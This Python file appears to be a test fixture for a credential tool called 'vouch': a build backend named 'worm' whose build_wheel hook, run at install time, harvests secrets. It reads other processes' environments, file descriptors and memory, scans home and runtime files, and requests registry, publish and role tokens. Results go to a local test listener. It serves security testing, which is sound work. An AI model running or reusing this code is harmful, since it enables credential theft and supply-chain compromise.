"""A worm in a project's build backend (PEP 517): Python's standard library alone. It stays with the processes of the
test's laptop, and reports to the test's listener, as worm.cjs does."""
import glob
import json
import os
import re
import signal
import socket
import subprocess
import zipfile

here = os.path.dirname(os.path.abspath(__file__))
settings = json.load(open(os.path.join(here, "settings.json")))
home, runtime, folder = os.environ["HOME"], os.environ["VOUCH_RUNTIME_DIR"], settings["folder"]
vouch = os.path.join(folder, "bin/vouch")
host, repository = settings["host"], settings["repository"]
formats = ["cargo", "generic", "maven", "npm", "nuget", "pypi", "ruby", "swift"]
TOKEN = rb"[\w.+-]*vouch-sandbox-token[\w.+-]+"


def report(name, text):
    with socket.socket(socket.AF_UNIX) as listener:
        listener.connect(settings["report"])
        listener.sendall(f"{settings['worm']}\t{name}\n".encode() + text)


def read(path):
    try:
        with open(path, "rb") as file:
            return file.read(4 << 20)
    except OSError as error:
        return str(error).encode()


def environ(pid):
    return read(f"/proc/{pid}/environ")


def own(pid):
    return int(pid) != os.getpid() and f"\0HOME={home}\0".encode() in environ(pid)


def processes():
    return [pid for pid in os.listdir("/proc") if pid.isdigit() and own(pid)]


def ancestors():
    found, pid = [], os.getppid()
    while pid > 1 and own(pid):
        found.append(pid)
        pid = int(re.search(rb"PPid:\s+(\d+)", read(f"/proc/{pid}/status")).group(1))
    return found


def files(paths):
    return b"".join(path.encode() + b": " + read(path) + b"\n" for path in paths if os.path.isfile(path))


def below(top):
    return [os.path.join(at, name) for at, _, names in os.walk(top) for name in names]


def descriptors(pid):
    try:
        found = [(fd, os.readlink(f"/proc/{pid}/fd/{fd}")) for fd in os.listdir(f"/proc/{pid}/fd")]
    except OSError as error:
        return str(error).encode()
    got, targets = b"", [target for _, target in found]
    for fd, target in found:
        got += target.encode() + b": "
        # A pipe whose both ends one process holds is its own affair.
        if re.match(r"/dev/|socket:|anon_inode", target) or (target.startswith("pipe:") and targets.count(target) > 1):
            continue
        try:
            file = os.open(f"/proc/{pid}/fd/{fd}", os.O_RDONLY | os.O_NONBLOCK)
            try:
                got += os.read(file, 1 << 20)
            finally:
                os.close(file)
        except OSError as error:
            got += str(error).encode()
    return got


def memory(pid):
    found = set()
    with open(f"/proc/{pid}/mem", "rb", 0) as file:
        for line in open(f"/proc/{pid}/maps"):
            span, rights = line.split()[:2]
            start, end = (int(part, 16) for part in span.split("-"))
            if rights.startswith("rw") and end - start < 1 << 28:
                try:
                    file.seek(start)
                    found.update(re.findall(TOKEN, file.read(end - start)))
                except OSError:
                    pass
    return b"readable " + b" ".join(sorted(found)[:5])


def manager():
    return next((pid for pid in ancestors() if b"pip" in read(f"/proc/{pid}/cmdline")), os.getppid())


def run(*command, given="", seconds=6):
    try:
        child = subprocess.Popen(
            command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, start_new_session=True
        )
    except OSError as error:
        return str(error).encode()
    try:
        return child.communicate(given.encode(), timeout=seconds)[0]
    except subprocess.TimeoutExpired:
        os.killpg(child.pid, signal.SIGKILL)
        return child.communicate()[0]


def ask(route, body=None):
    sent = b"" if body is None else json.dumps(body).encode()
    head = f"{'GET' if body is None else 'POST'} /v1/{route} HTTP/1.1\r\nhost: vouch\r\nvouch-protocol: 1\r\n"
    with socket.socket(socket.AF_UNIX) as agent:
        agent.settimeout(5)
        agent.connect(os.path.join(runtime, "agent.sock"))
        agent.sendall(f"{head}connection: close\r\ncontent-length: {len(sent)}\r\n\r\n".encode() + sent)
        return b"".join(iter(lambda: agent.recv(65536), b""))


def url(format):
    return f"https://{host}/{format}/{repository}/"


def cargo(operation):
    claim = {"name": "worm-of-mine", "vers": "1.0.0", "cksum": "0" * 64}
    return {"v": 1, "kind": "get", "operation": operation, "registry": {"index-url": f"sparse+{url('cargo')}"}, **claim}


def provider(operation):
    return run(vouch, "--cargo-plugin", given=json.dumps(cargo(operation)) + "\n")


def tokens(**more):
    return b"".join(ask("token", {"url": url(format), "format": format, **more}) for format in formats)


def agent():
    return int(re.search(rb'"pid":(\d+)', ask("status")).group(1))


def simple():
    return url("pypi") + "simple/"


attempts = {
    "own-environment": lambda: repr(dict(os.environ)).encode(),
    "parent-environment": lambda: environ(os.getppid()),
    "ancestors-environment": lambda: b"".join(map(environ, ancestors())),
    "all-environments": lambda: b"".join(map(environ, processes())),
    "agent-environment": lambda: environ(agent()),
    "arguments": lambda: b"".join(read(f"/proc/{pid}/cmdline") for pid in processes()),
    "tool-settings": lambda: run("pip", "config", "list"),
    "home-files": lambda: files(below(home)),
    "runtime-folder": lambda: files(below(runtime)),
    "shared-memory": lambda: files(glob.glob("/dev/shm/*")),
    "own-descriptors": lambda: descriptors("self"),
    "ancestors-descriptors": lambda: b"".join(map(descriptors, ancestors())),
    "all-descriptors": lambda: b"".join(map(descriptors, processes())),
    "agent-descriptors": lambda: descriptors(agent()),
    "package-manager-memory": lambda: memory(manager()),
    "agent-memory": lambda: memory(agent()),
    "ask-token": tokens,
    "ask-tokens": lambda: b"".join(ask("tokens", {"format": format}) for format in formats),
    "ask-cargo": lambda: ask("cargo", cargo("read")),
    "ask-environment": lambda: ask("environment", {}),
    "ask-role": lambda: ask("role-credentials", {}),
    "credential-codeartifact": lambda: run(vouch, "credential", "codeartifact"),
    "credential-aws": lambda: run(vouch, "credential", "aws"),
    "cargo-provider": lambda: provider("read"),
    "keyring": lambda: run("keyring", "get", simple(), "aws"),
    "exec": lambda: run(vouch, "exec", "--", "env"),
    "ask-publish-token": lambda: tokens(purpose="publish"),
    "ask-publish-parent": lambda: tokens(purpose="publish", holder="parent"),
    "ask-publish-cargo": lambda: b"".join(ask("cargo", cargo(each)) for each in ["publish", "yank", "owners"]),
    "ask-publish-environment": lambda: ask("environment", {"purpose": "publish"}),
    "ask-publish-role": lambda: ask("role-credentials", {"roleArn": settings["publishRole"]}),
    "credential-publish": lambda: run(vouch, "credential", "codeartifact", "--purpose", "publish"),
    "cargo-provider-publish": lambda: provider("publish"),
    "exec-publish": lambda: run(vouch, "exec", "--publish", "--", "env"),
    "key-add": lambda: run(vouch, "keys", "add"),
    "login": lambda: run(vouch, "login"),
}


def main():
    for name, attempt in attempts.items():
        try:
            got = attempt()
        except Exception as error:  # Whatever it was: the next attempt is made all the same.
            got = f"failed: {error!r}".encode()
        report(name, got)
    report("end", b"")


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    main()
    name, info = "worm-1.0.0-py3-none-any.whl", "worm-1.0.0.dist-info"
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as wheel:
        wheel.writestr(f"{info}/METADATA", "Metadata-Version: 2.1\nName: worm\nVersion: 1.0.0\n")
        wheel.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\nGenerator: worm\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr(f"{info}/RECORD", "")
    return name
